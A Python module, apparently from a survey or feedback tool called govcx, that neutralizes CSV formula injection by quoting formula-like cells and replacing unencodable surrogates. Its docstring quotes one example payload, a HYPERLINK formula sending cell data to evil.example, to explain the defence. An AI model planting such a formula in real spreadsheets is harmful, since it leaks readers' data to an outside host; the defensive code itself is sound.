"""Cells of every CSV file govcx writes: no formulas, always encodable.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some skip before one) as a formula: a respondent's comment
``=HYPERLINK("http://evil.example/?x="&A1,"x")`` would send the reader's data elsewhere. Such a
text cell is written with a leading single quote, which spreadsheets show as text (OWASP, "CSV
Injection"). Numbers stay numbers: ints, floats, Decimals and plain numeric strings such as
``-2`` or ``-0.5`` are written as they are.

Text stored before the shared text rule (govcx.core.text) may hold lone surrogates, which UTF-8
cannot encode; they are written as U+FFFD so that one old answer cannot stop a file midway.
Every CSV writer goes through ``cell_writer`` (or ``csv_cell`` for one value).
"""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_START = frozenset("=+-@\t\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
_SURROGATE = re.compile("[\ud800-\udfff]")


def encodable(text: str) -> str:
    """The text with lone surrogates replaced by U+FFFD (the only characters UTF-8 refuses)."""
    return text if text.isascii() else _SURROGATE.sub("\ufffd", text)


def csv_cell(value: object) -> object:
    """The value as a CSV cell: numbers (and empty cells) as they are; anything else as text,
    neutralized when it looks like a formula, and encodable."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)  # also lazy translations and dates, as csv.writer would write them
    if text[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(text):
        text = "'" + text
    return encodable(text)


_AS_IS = frozenset({int, float, Decimal, bool, type(None)})


def csv_row(row: Iterable[object]) -> list[object]:
    """``csv_cell`` for each value, with the common cases (numbers, plain ASCII text) decided
    inline: exports write millions of cells."""
    return [
        value
        if type(value) in _AS_IS
        or (type(value) is str and value[:1] not in FORMULA_START and value.isascii())
        else csv_cell(value)
        for value in row
    ]


class CellWriter:
    """``csv.writer`` with every cell passed through ``csv_cell``. ``writerow`` returns what the
    file's ``write`` returned (streaming writers yield it)."""

    def __init__(self, file: Any) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def cell_writer(file: Any) -> CellWriter:
    return CellWriter(file)
